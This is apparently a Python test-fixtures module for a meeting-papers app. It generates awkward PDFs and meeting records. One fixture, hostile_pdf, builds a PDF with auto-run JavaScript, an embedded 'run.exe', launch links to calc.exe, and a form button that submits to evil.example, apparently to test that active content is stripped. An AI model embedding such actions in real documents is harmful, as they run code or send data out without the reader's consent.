"""Papers of every awkward kind, and meetings with items and papers, for the pack tests."""

from __future__ import annotations

import datetime as dt
import io
from pathlib import Path
from typing import Any

A4 = (595.28, 841.89)
LETTER = (612.0, 792.0)


def pdf_bytes(
    pages: int = 2,
    size: tuple[float, float] = A4,
    label: str = "Paper",
    bookmarks: bool = False,
    edge_text: bool = True,
) -> bytes:
    """A PDF whose text runs to the very bottom edge, so a stamp on top would show."""
    from reportlab.pdfgen.canvas import Canvas

    buf = io.BytesIO()
    canvas = Canvas(buf, pagesize=size)
    for n in range(1, pages + 1):
        canvas.setFont("Helvetica-Bold", 18)
        canvas.drawString(40, size[1] - 60, f"{label} page {n}")
        if bookmarks:
            canvas.bookmarkPage(f"p{n}")
            canvas.addOutlineEntry(f"Section {n}", f"p{n}", level=0)
        if edge_text:
            canvas.setFont("Helvetica", 9)
            canvas.drawString(10, 3, "BOTTOM EDGE TEXT " * 6)
            canvas.rect(1, 1, size[0] - 2, size[1] - 2)
        canvas.showPage()
    canvas.save()
    return buf.getvalue()


def rotated_pdf(pages: int = 2, label: str = "Rotated") -> bytes:
    """Portrait pages shown turned a quarter (/Rotate 90): the reader sees landscape."""
    import pikepdf

    pdf = pikepdf.open(io.BytesIO(pdf_bytes(pages, A4, label)))
    for page in pdf.pages:
        page.obj.Rotate = 90
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def encrypted_pdf(user: str = "", pages: int = 2, label: str = "Encrypted") -> bytes:
    import pikepdf

    pdf = pikepdf.open(io.BytesIO(pdf_bytes(pages, A4, label)))
    out = io.BytesIO()
    pdf.save(out, encryption=pikepdf.Encryption(user=user, owner="owner-secret"))
    return out.getvalue()


def truncated_pdf() -> bytes:
    data = pdf_bytes(4, A4, "Truncated")
    return data[: len(data) // 3]


def docx_bytes(title: str = "A Word paper") -> bytes:
    from docx import Document

    doc = Document()
    doc.add_heading(title, 1)
    doc.add_paragraph("This paper was written in Word and converted for the pack.")
    buf = io.BytesIO()
    doc.save(buf)
    return buf.getvalue()


def png_bytes() -> bytes:
    from PIL import Image

    img = Image.new("RGB", (800, 500), (0, 94, 184))
    buf = io.BytesIO()
    img.save(buf, format="PNG")
    return buf.getvalue()


FULL_COVER = {
    "author": "Dr A Author",
    "sponsor": "Director of Public Health",
    "purpose": "decision",
    "summary": "A short summary of the paper.",
    "recommendation": "The group is asked to approve the proposal.",
    "risks": "None significant.",
    "equality_impact": "Assessed; no adverse impact.",
    "previously_considered": "Network meeting, December 2026.",
}


def make_meeting(db: Any, day: dt.date = dt.date(2027, 2, 9), code: str = "SG") -> int:
    """A planned meeting of ``code`` with the standing items; returns its id."""
    from sqlalchemy import select

    from atr_desktop.storage.models import AgendaItem, Group, Meeting

    with db.session() as s:
        group = s.scalar(select(Group).where(Group.code == code))
        meeting = Meeting(
            group_id=group.id,
            date=day,
            start_time=dt.time(10, 0),
            end_time=dt.time(12, 30),
            venue="Wellington House, Leeds",
            status="planned",
            uid=f"test-{code}-{day.isoformat()}@atr",
        )
        s.add(meeting)
        s.flush()
        for pos, (title, kind) in enumerate(
            [
                ("Welcome and apologies", "apologies"),
                ("Declarations of interest", "declarations"),
                ("Minutes of the last meeting", "minutes"),
                ("Action log", "action_log"),
            ],
            start=1,
        ):
            s.add(AgendaItem(meeting_id=meeting.id, position=pos, title=title, kind=kind))
        return meeting.id


def add_item(
    db: Any, meeting_id: int, title: str, confidential: bool = False, parent_id: int | None = None
) -> int:
    from sqlalchemy import func, select

    from atr_desktop.storage.models import AgendaItem

    with db.session() as s:
        last = s.scalar(
            select(func.max(AgendaItem.position)).where(
                AgendaItem.meeting_id == meeting_id,
                AgendaItem.parent_id.is_(parent_id)
                if parent_id is None
                else AgendaItem.parent_id == parent_id,
            )
        )
        item = AgendaItem(
            meeting_id=meeting_id,
            parent_id=parent_id,
            position=(last or 0) + 1,
            title=title,
            lead="Chair",
            purpose="decision",
            minutes_allotted=15,
            has_papers=True,
            confidential=confidential,
        )
        s.add(item)
        s.flush()
        return item.id


def add_paper(
    db: Any,
    item_id: int,
    title: str,
    data: bytes | None,
    filename: str = "paper.pdf",
    media_type: str = "application/pdf",
    added_at: dt.datetime | None = None,
    **cover: str,
) -> int:
    """A paper with its cover sheet filled (override fields with ``cover``) and a file."""
    from atr_desktop.storage.models import Paper, PaperFile

    fields = {**FULL_COVER, **cover}
    with db.session() as s:
        paper = Paper(
            agenda_item_id=item_id,
            title=title,
            status="received" if data is not None else "expected",
            **fields,
        )
        s.add(paper)
        s.flush()
        if data is not None:
            sha = db.blobs.put_bytes(data)
            s.add(
                PaperFile(
                    paper_id=paper.id,
                    version=1,
                    filename=filename,
                    sha256=sha,
                    size=len(data),
                    media_type=media_type,
                    added_at=added_at or dt.datetime(2026, 1, 20, 9, 0),
                )
            )
        return paper.id


def write(tmp: Path, name: str, data: bytes) -> Path:
    path = tmp / name
    path.write_bytes(data)
    return path


RED = (1.0, 0.0, 0.0)
BLUE = (0.0, 0.0, 1.0)


def boxed_pdf(
    media: tuple[float, float, float, float],
    crop: tuple[float, float, float, float] | None = None,
    trim: tuple[float, float, float, float] | None = None,
    rotate: int = 0,
    unit: float = 1.0,
    inherit: bool = False,
) -> bytes:
    """One page whose author sees only a blue block: everything outside the visible box
    (crop box within media box) is a red bar, including content off the media box.

    ``inherit`` puts the boxes and /Rotate on the /Pages node, as some producers do."""
    import pikepdf

    x0, y0, x1, y1 = crop or media
    w, h = x1 - x0, y1 - y0
    blue = f"{BLUE[0]} {BLUE[1]} {BLUE[2]} rg "
    blue += f"{x0 + w * 0.3} {y0 + h * 0.3} {w * 0.4} {h * 0.4} re f"
    red = f"{RED[0]} {RED[1]} {RED[2]} rg "
    bars = [  # just outside each edge of the visible box, and off the media box entirely
        f"{x0 - 40} {y0 + 10} 35 {h - 20} re",
        f"{x1 + 5} {y0 + 10} 35 {h - 20} re",
        f"{x0 + 10} {y0 - 40} {w - 20} 35 re",
        f"{x0 + 10} {y1 + 5} {w - 20} 35 re",
        f"{media[0] + 10} {media[1] - 60} {w - 20} 40 re",
    ]
    content = (blue + "\n" + red + " ".join(bars) + " f\n").encode()
    pdf = pikepdf.new()
    page = pikepdf.Dictionary(
        Type=pikepdf.Name.Page,
        Contents=pdf.make_stream(content),
        Resources=pikepdf.Dictionary(),
    )
    boxes: dict[str, Any] = {"/MediaBox": pikepdf.Array(list(media))}
    if crop:
        boxes["/CropBox"] = pikepdf.Array(list(crop))
    if rotate:
        boxes["/Rotate"] = rotate
    if trim:
        page.TrimBox = pikepdf.Array(list(trim))
    if unit != 1:
        page.UserUnit = unit
    pdf.pages.append(pikepdf.Page(page))
    target = pdf.Root.Pages if inherit else pdf.pages[0].obj
    for key, value in boxes.items():
        target[key] = value
    if inherit:
        pdf.pages[0].obj.MediaBox = pikepdf.Array(list(media))  # qpdf insists on its own
        target.MediaBox = pikepdf.Array(list(media))
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def hostile_pdf() -> bytes:
    """A paper carrying every kind of active content an author's PDF can hold, plus a web
    link and a link to its own second page that should survive."""
    import pikepdf

    pdf = pikepdf.open(io.BytesIO(pdf_bytes(2, A4, "Hostile", edge_text=False)))
    js = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert('hi')"))
    pdf.Root.OpenAction = pdf.make_indirect(js)
    pdf.Root.AA = pikepdf.Dictionary(WC=pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="1"))
    embedded = pikepdf.AttachedFileSpec(pdf, b"MZ not really a program", filename="run.exe")
    pdf.attachments["run.exe"] = embedded
    names = pdf.Root.Names
    names.JavaScript = pikepdf.Dictionary(
        Names=pikepdf.Array([pikepdf.String("start"), pdf.make_indirect(js)])
    )
    first = pdf.pages[0].obj
    first.AA = pikepdf.Dictionary(O=pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="2"))

    def annot(**kw: Any) -> Any:
        return pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Annot, **kw))

    rect = pikepdf.Array([100, 400, 300, 420])
    button = annot(
        Subtype=pikepdf.Name.Widget,
        FT=pikepdf.Name.Btn,
        T=pikepdf.String("send"),
        Rect=pikepdf.Array([100, 500, 200, 520]),
        A=pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F=pikepdf.String("https://evil.example/")),
    )
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([button]))
    first.Annots = pikepdf.Array(
        [
            annot(
                Subtype=pikepdf.Name.Link,
                Rect=rect,
                A=pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("calc.exe")),
            ),
            annot(
                Subtype=pikepdf.Name.Link,
                Rect=pikepdf.Array([100, 300, 300, 320]),
                A=pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://nhs.uk/")),
            ),
            annot(
                Subtype=pikepdf.Name.Link,
                Rect=pikepdf.Array([100, 250, 300, 270]),
                A=pikepdf.Dictionary(
                    S=pikepdf.Name.URI, URI=pikepdf.String("file:///C:/Windows/calc.exe")
                ),
            ),
            annot(
                Subtype=pikepdf.Name.Link,
                Rect=pikepdf.Array([100, 200, 300, 220]),
                Dest=pikepdf.Array([pdf.pages[1].obj, pikepdf.Name.Fit]),
            ),
            button,
            annot(
                Subtype=pikepdf.Name.FileAttachment,
                Rect=pikepdf.Array([400, 700, 420, 720]),
                FS=embedded.obj,
            ),
        ]
    )
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def hidden_layer_pdf() -> bytes:
    """A page with a blue block, and a red one on a layer (optional content group) the
    author's viewer hides by default."""
    import pikepdf

    pdf = pikepdf.new()
    layer = pdf.make_indirect(
        pikepdf.Dictionary(Type=pikepdf.Name.OCG, Name=pikepdf.String("Draft comments"))
    )
    content = b"0 0 1 rg 200 300 200 200 re f\n/OC /Hidden BDC 1 0 0 rg 100 600 300 100 re f EMC\n"
    page = pikepdf.Dictionary(
        Type=pikepdf.Name.Page,
        MediaBox=pikepdf.Array([0, 0, 595, 842]),
        Contents=pdf.make_stream(content),
        Resources=pikepdf.Dictionary(Properties=pikepdf.Dictionary(Hidden=layer)),
    )
    pdf.pages.append(pikepdf.Page(page))
    pdf.Root.OCProperties = pikepdf.Dictionary(
        OCGs=pikepdf.Array([layer]),
        D=pikepdf.Dictionary(OFF=pikepdf.Array([layer]), Order=pikepdf.Array([layer])),
    )
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()
